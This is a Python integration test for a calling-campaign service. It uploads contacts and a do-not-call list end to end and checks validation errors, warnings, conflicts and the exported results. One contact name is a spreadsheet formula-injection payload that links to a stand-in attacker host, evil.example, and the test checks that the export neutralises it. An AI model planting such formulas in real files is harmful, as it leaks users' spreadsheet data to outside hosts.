"""A campaign whose contacts and DNC list come with the request, end to end, with no shared volume.

``POST /v1/campaigns`` as multipart/form-data (spec, contacts.csv, dnc.txt) on an ingress that
has no ``CONTACTS_DIR``: the rows go to ``campaign.uploads``, the real controller reads them back,
the dispatcher dials the simulator, and the results come back through the control API. Nothing
is mocked (see the campaign harness).
"""

from __future__ import annotations

import asyncio
import csv
import io
import time
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest
import yaml
from pydantic import SecretStr

from contracts.topics import CAMPAIGN_CONTROL
from orchestrator.ingress.asgi import IngressOptions, create_app
from orchestrator.localbroker import LocalBroker
from tests.integration.campaign.harness import campaign_spec, local_env, raw_records, write_contacts
from tests.integration.ingress.conftest import TOKEN, running

pytestmark = [pytest.mark.integration]

AUTH = {"Authorization": f"Bearer {TOKEN}"}
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


async def _wait(client: httpx.AsyncClient, name: str, pred: Any, within: float) -> dict[str, Any]:
    deadline = time.monotonic() + within
    p: dict[str, Any] = {}
    while time.monotonic() < deadline:
        r = await client.get(f"/v1/campaigns/{name}", headers=AUTH)
        p = r.json() if r.status_code == 200 else {}
        if p and pred(p):
            return p
        await asyncio.sleep(0.3)
    raise AssertionError(f"campaign {name}: condition not reached in {within}s; last {p}")


def _spec_yaml(name: str, tmp_path: Path) -> str:
    """The harness's campaign, with no file named in it: contacts and DNC come as parts."""
    spec = campaign_spec(name, tmp_path / "unused.csv", tmp_path / "unused.txt", cap=8, hours=False)
    doc = spec.to_json()
    doc["contacts"] = {"default_region": "GB"}
    doc["dnc"] = []
    return yaml.safe_dump(doc)


@pytest.mark.timeout(240)
async def test_uploaded_contacts_run_end_to_end(broker: LocalBroker, tmp_path: Path) -> None:
    n = 24
    contacts, dnc, dnc_numbers, region = write_contacts(tmp_path, n, seed=5, mix=(0.0, 0.0))
    lines = contacts.read_text().splitlines()
    number = lines[3].split(",")[0]
    lines[3] = f'{number},"{FORMULA.replace(chr(34), chr(34) * 2)}"'  # row 2: a formula name
    contacts_bytes = ("\n".join(lines) + "\n").encode()
    dnc_bytes = dnc.read_bytes() + b"bogus-42\n"
    spec_text = _spec_yaml("upl-a", tmp_path)

    async with local_env(
        broker.bootstrap, cps=10, time_scale=20, clock_scale=60, seed=29, faults=False
    ) as env:
        settings = env.settings.model_copy(update={"control_api_token": SecretStr(TOKEN)})
        assert settings.contacts_dir is None  # no shared volume
        app = create_app(settings, options=IngressOptions(state_view=False, publish_deadline=5.0))
        async with running(app) as client:
            # Refusals first: no source at all; a CSV without a number column; parts out of order.
            r = await client.post(
                "/v1/campaigns",
                headers=AUTH,
                files=[("spec", ("c.yaml", _spec_yaml("upl-x", tmp_path), "application/yaml"))],
            )
            assert r.status_code == 422 and "contacts: no source" in r.text, r.text
            r = await client.post(
                "/v1/campaigns",
                headers=AUTH,
                files=[
                    ("spec", ("c.yaml", _spec_yaml("upl-x", tmp_path), "application/yaml")),
                    ("contacts", ("c.csv", b"name,city\nAnn,Paris\n", "text/csv")),
                ],
            )
            assert r.status_code == 422, r.text
            assert "no number column" in r.text and "'name', 'city'" in r.text
            assert "Paris" not in r.text  # the columns found, never a row
            r = await client.post(
                "/v1/campaigns",
                headers=AUTH,
                files=[("contacts", ("c.csv", contacts_bytes, "text/csv"))],
            )
            assert r.status_code == 422 and "spec part comes first" in r.text, r.text

            r = await client.post(
                "/v1/campaigns",
                headers=AUTH,
                files=[
                    ("spec", ("campaign.yaml", spec_text, "application/yaml")),
                    ("contacts", ("contacts.csv", contacts_bytes, "text/csv")),
                    ("dnc", ("dnc.txt", dnc_bytes, "text/plain")),
                ],
            )
            assert r.status_code == 202, r.text
            accepted = r.json()
            assert accepted["contacts_total"] == n
            assert any("dnc.txt" in w and "not a phone number" in w for w in accepted["warnings"])
            assert not any("bogus" in w for w in accepted["warnings"])  # line numbers only

            # START names a slice of campaign.uploads, not a file.
            starts = [
                v
                for k, v in await raw_records(settings, CAMPAIGN_CONTROL.name)
                if k == b"upl-a" and v.get("action") == "start"
            ]
            contacts_src = starts[0]["spec"]["contacts"]
            assert contacts_src["csv"] is None and contacts_src["upload"]["rows"] == n
            assert starts[0]["spec"]["dnc_uploads"][0]["rows"] == len(dnc_numbers)

            # Once the controller has it, the name is taken: refused before any file is written.
            await _wait(client, "upl-a", lambda p: True, within=30)
            r = await client.post(
                "/v1/campaigns",
                headers=AUTH,
                files=[
                    ("spec", ("campaign.yaml", spec_text, "application/yaml")),
                    ("contacts", ("contacts.csv", contacts_bytes, "text/csv")),
                ],
            )
            assert r.status_code == 409, r.text

            done = await _wait(client, "upl-a", lambda p: p["status"] == "completed", within=150)
            assert done["finished"] == n

            r = await client.get("/v1/campaigns/upl-a/results", headers=AUTH)
            results = [orjson.loads(x) for x in r.content.splitlines()]
            assert sorted(int(x["contact_id"]) for x in results) == list(range(n))
            dnc_got = {x["number"] for x in results if x["disposition"] == "dnc"}
            assert dnc_got == dnc_numbers
            invalid = {
                int(x["contact_id"]) for x in results if x["disposition"] == "invalid_number"
            }
            assert invalid == {i for i, reg in region.items() if reg == "invalid"}
            assert len(env.creates()) >= n - len(dnc_numbers) - len(invalid)

            r = await client.get("/v1/campaigns/upl-a/results?format=csv", headers=AUTH)
            rows = {row["contact_id"]: row for row in csv.DictReader(io.StringIO(r.text))}
            assert rows["2"]["name"] == "'" + FORMULA  # neutralised for spreadsheets
